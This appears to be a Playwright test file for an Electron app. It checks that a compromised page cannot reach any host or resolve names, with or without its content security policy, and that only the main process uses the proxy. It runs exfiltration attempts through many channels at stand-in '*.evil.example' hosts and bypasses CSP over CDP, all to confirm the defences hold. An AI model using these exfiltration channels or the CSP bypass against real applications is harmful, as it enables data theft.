/** @file A compromised page cannot reach any host. The page tries each channel against its own listener, and Chromium's log contains no name resolution. */
import type { ElectronApplication } from '@playwright/test'
import type { RunningApp } from '../harness/app'
import type { Listeners } from '../harness/listeners'
import path from 'node:path'
import { typeCredentials } from '../harness/user'
import { expect, test } from '../harness/fixtures'
import { startListeners } from '../harness/listeners'
import { resolvedNames, netLogSwitches } from '../harness/net-log'
import { tryChannel, channels } from '../harness/exfiltration'

const names = [...channels.keys()]
const hostOf = (kind: string, channel: string) => `${kind}-${channel}.evil.example`

/** The places to try each channel: the page, the page without its policy, and an unconfined window. */
type Kind = 'page' | 'bare' | 'open'

const pageId = (electron: ElectronApplication): Promise<number> =>
  electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.id ?? 0)

async function tryAll({ electron }: RunningApp, id: number, listeners: Listeners, kind: Kind): Promise<void> {
  for (const channel of names) {
    await tryChannel(electron, id, channel, { host: '127.0.0.1', port: listeners.port(`${kind} ${channel}`) })
    await tryChannel(electron, id, channel, { host: hostOf(kind, channel), port: listeners.port(`${kind} ${channel}`) })
  }
}

/** Reloads the page without its policy. */
async function dropPolicy({ page }: RunningApp): Promise<void> {
  const session = await page.context().newCDPSession(page)
  await session.send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  await page.getByRole('navigation').waitFor()
  expect(await page.evaluate(() => fetch('data:text/plain,x').then(answer => answer.text()))).toBe('x')
}

/** Channels that replace the page: a second navigation would cancel the first one before its name is resolved. */
const replacing = ['form', 'link', 'location']

/** Tries a channel that replaces the page with a name that does not exist, and waits until the page cannot be loaded. */
async function tryUnknownName(electron: ElectronApplication, id: number, channel: string, port: number): Promise<void> {
  await electron.evaluate(({ webContents }, page) => {
    Object.assign(globalThis, { failed: new Promise<void>(resolve => webContents.fromId(page)?.once('did-fail-load', () => resolve())) })
  }, id)
  await tryChannel(electron, id, channel, { host: hostOf('open', channel), port })
  await electron.evaluate(() => (globalThis as unknown as { failed: Promise<void> }).failed)
}

/** Tries all channels in an unconfined window, which proves that the listeners detect them. */
async function tryUnconfined(electron: ElectronApplication, listeners: Listeners): Promise<void> {
  const id = await electron.evaluate(({ app, BrowserWindow }) => {
    // Runs after the app's own listener, including for windows that this window opens.
    app.on('web-contents-created', (_event, contents) => {
      for (const event of ['will-navigate', 'will-frame-navigate'] as const) contents.removeAllListeners(event)
      contents.setWindowOpenHandler(() => ({ action: 'allow' }))
      contents.setWebRTCIPHandlingPolicy('default')
    })
    return new BrowserWindow({ show: false, webPreferences: { partition: 'unconfined' } }).webContents.id
  })
  const loadStart = () =>
    electron.evaluate(({ webContents }, [page, address]) => webContents.fromId(page)?.loadURL(address), [id, `http://127.0.0.1:${listeners.port('start')}/`] as const)
  for (const channel of names) {
    const port = listeners.port(`open ${channel}`)
    await loadStart()
    if (replacing.includes(channel)) {
      await tryUnknownName(electron, id, channel, port)
      await loadStart()
    } else await tryChannel(electron, id, channel, { host: hostOf('open', channel), port })
    await tryChannel(electron, id, channel, { host: '127.0.0.1', port })
    // The other channels only resolve names.
    if (!unreached.includes(channel)) await expect.poll(() => listeners.reached(), channel).toContain(`open ${channel}`)
  }
}

/** Electron ignores hints to connect early. */
const unreached = ['dns-prefetch', 'preconnect']

/** Channels that resolve no name even in the unconfined window: the app disables the first four in all windows; the others fail before resolution. */
const unseen = ['dns-prefetch', 'webrtc-stun', 'webrtc-turn', 'webrtc-peer', 'preconnect', 'speculation', 'identity']

test('a compromised page reaches no host and resolves no name, with and without its content security policy', async ({ cloud, folder, launch }) => {
  test.setTimeout(180_000)
  const listeners = await startListeners(['start', ...(['page', 'bare', 'open'] as const).flatMap(kind => names.map(channel => `${kind} ${channel}`))])
  const log = path.join(folder, 'net-log.json')
  const app = await launch({ switches: [...cloud.switches, ...netLogSwitches(log)] })
  const id = await pageId(app.electron)
  await tryAll(app, id, listeners, 'page')
  await dropPolicy(app)
  await tryAll(app, id, listeners, 'bare')
  await tryUnconfined(app.electron, listeners)
  expect(listeners.reached().filter(name => !name.startsWith('open '))).toEqual(['start'])
  // The page did not navigate.
  expect(await app.electron.evaluate(({ webContents }, page) => webContents.fromId(page)?.getURL(), id)).toMatch(/^xdr-desk:\/\/app\/index\.html(?:#|$)/)
  await app.ignoreErrors(/./)
  await app.close()
  await listeners.close()

  const lookedUp = [...resolvedNames(log)].filter(name => name.endsWith('.evil.example'))
  // Chromium also requests the HTTPS record of a port, as `_8080._https.NAME`.
  expect(lookedUp.filter(name => !/(?:^|\.)open-/.test(name))).toEqual([])
  const seen = names.filter(channel => !unseen.includes(channel))
  expect(seen.filter(channel => !lookedUp.includes(hostOf('open', channel)))).toEqual([])
})

test('only main uses the system\'s proxy', async ({ cloud, launch }) => {
  const listeners = await startListeners(['proxy'])
  // The proxy resolves the names, as in proxy.spec.ts.
  const app = await launch({ switches: [...cloud.trustSwitches, `--proxy-server=127.0.0.1:${listeners.port('proxy')}`] })
  // The switch does not replace the proxy of the page's session, which leads nowhere.
  expect(await app.electron.evaluate(({ session }) => session.defaultSession.resolveProxy('https://proxied.evil.example/'))).toBe('PROXY 127.0.0.1:9')
  await dropPolicy(app)
  const result = await app.page.evaluate(() => fetch('http://proxied.evil.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'blocked'))
  expect(result).toBe('blocked')
  expect(listeners.reached()).toEqual([])
  await typeCredentials(app.page, cloud)
  await expect.poll(() => listeners.reached(), { timeout: 30_000 }).toEqual(['proxy'])
  await app.ignoreErrors(/Content-Security-Policy|ERR_BLOCKED_BY_CLIENT/)
  await app.close()
  await listeners.close()
})
